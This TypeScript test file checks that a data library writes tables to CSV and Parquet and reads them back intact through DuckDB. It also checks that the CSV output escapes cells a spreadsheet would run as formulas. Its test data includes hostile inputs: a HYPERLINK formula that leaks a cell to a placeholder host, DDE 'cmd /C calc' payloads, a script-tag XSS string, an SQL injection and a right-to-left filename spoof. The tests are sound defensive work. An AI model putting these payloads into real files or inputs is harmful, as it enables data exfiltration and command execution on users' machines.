import {mkdtempSync, rmSync, writeFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join} from "node:path";
import fc from "fast-check";
import {afterAll, expect, test} from "vitest";
import {tableParquet} from "../../loaders/package/table-parquet.ts";
import {tableCsv} from "../../loaders/tidy/table-csv.ts";
import type {TableAbout} from "../../loaders/tidy/table-about.ts";
import {tidyTable} from "../../loaders/tidy/tidy-table.ts";
import type {DescribedTable} from "./described-tables.ts";
import {openDuckDb, query, readCsv, readParquet} from "./duckdb.ts";

const about: TableAbout = {
  title: "Hostile",
  description: "",
  fields: [
    {name: "id", type: "integer", description: "", required: true},
    {name: "text", type: "string", description: ""},
    {name: "number", type: "number", description: ""},
    {name: "day", type: "date", description: ""},
    {name: "yes", type: "boolean", description: ""}
  ],
  primaryKey: ["id"]
};

const described = {
  path: "hostile.csv",
  "cifra:alternatives": [{path: "hostile.parquet"}],
  schema: {fields: about.fields}
} as unknown as DescribedTable;

const folder = `${mkdtempSync(join(tmpdir(), "cifra-hostile-"))}/`;
afterAll(() => rmSync(folder, {recursive: true, force: true}));

interface Row {
  id: number;
  text: string | null;
  number: number | null;
  day: string | null;
  yes: boolean | null;
}

/** The rows as DuckDB reads them from each of the two files. */
async function readBack(rows: readonly Row[]): Promise<{csv: unknown[]; parquet: unknown[]}> {
  const table = tidyTable(rows, about);
  writeFileSync(`${folder}hostile.csv`, tableCsv(table));
  writeFileSync(`${folder}hostile.parquet`, tableParquet(table, about.fields));
  const duckdb = await openDuckDb();
  return {
    csv: await query(duckdb, `FROM ${readCsv(described, folder)} ORDER BY id`),
    parquet: await query(duckdb, `FROM ${readParquet(described, folder)} ORDER BY id`)
  };
}

const HOSTILE = [
  '=HYPERLINK("https://example.invalid?leak="&A1,"click")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+1234567890123456789012345678901234567890",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "＝1+1",
  "'=1+1",
  '"quoted", with a comma\nand a second line\r\nand a third',
  "2024-02-30",
  "1e308",
  "NULL",
  "null",
  "true",
  "007",
  "<script>alert(1)</script>",
  "'); DROP TABLE figures; --",
  "\u202Egnp.exe",
  "ñandú 🦩 é",
  "a byte order \uFEFFmark"
];

test("hostile texts stay texts: as they are in Parquet, guarded in CSV where a spreadsheet would run them", async () => {
  const rows = HOSTILE.map((text, id): Row => ({
    id,
    text,
    number: 0.5 - id,
    day: "2024-02-29",
    yes: id % 2 === 0
  }));
  const {csv, parquet} = await readBack(rows);
  expect(parquet).toEqual(rows);
  const guarded = HOSTILE.map((text, id) => ({...rows[id], text: id < 8 ? `'${text}` : text}));
  expect(csv).toEqual(guarded);
});

test("any text, number, day and missing value comes back from both files", async () => {
  const text = fc.string({unit: "grapheme", maxLength: 12}).filter((value) => !value.includes("\0"));
  const day = fc
    .date({min: new Date("0001-01-01"), max: new Date("9999-12-31"), noInvalidDate: true})
    .map((date) => date.toISOString().slice(0, 10));
  const row = fc.record({
    text: fc.option(text.filter((value) => value !== "")),
    number: fc.option(fc.double({noNaN: true, noDefaultInfinity: true}).map((value) => value + 0)),
    day: fc.option(day),
    yes: fc.option(fc.boolean())
  });
  await fc.assert(
    fc.asyncProperty(fc.array(row, {minLength: 1, maxLength: 30}), async (cells) => {
      const rows = cells.map((cell, id): Row => ({id, ...cell}));
      const {csv, parquet} = await readBack(rows);
      expect(parquet).toEqual(rows);
      const guarded = rows.map(({text: before}, n) => {
        const after = (csv[n] as Row).text;
        return after === before || after === `'${before}`;
      });
      expect(guarded).not.toContain(false);
      expect(csv.map((one) => ({...(one as Row), text: null}))).toEqual(
        rows.map((one) => ({...one, text: null}))
      );
    }),
    {numRuns: 60}
  );
});

test("an integer that Parquet's 32 bits do not hold is refused with its column", () => {
  const rows = [{id: 2 ** 31, text: null, number: null, day: null, yes: null}];
  expect(() => tableParquet(tidyTable(rows, about), about.fields)).toThrow(
    "the column “id” holds 2147483648"
  );
});

test.each([
  [{id: null}, "id holds null, which is no value at all, though every row must have one"],
  [{day: "2023-02-29"}, "day holds 2023-02-29, which is no date"],
  [{day: "2023-02"}, "day holds 2023-02, which is no date"]
])("a row with %j is refused", (change, message) => {
  const row = {id: 1, text: null, number: null, day: null, yes: null, ...change};
  expect(() => tidyTable([row], about)).toThrow(message);
});
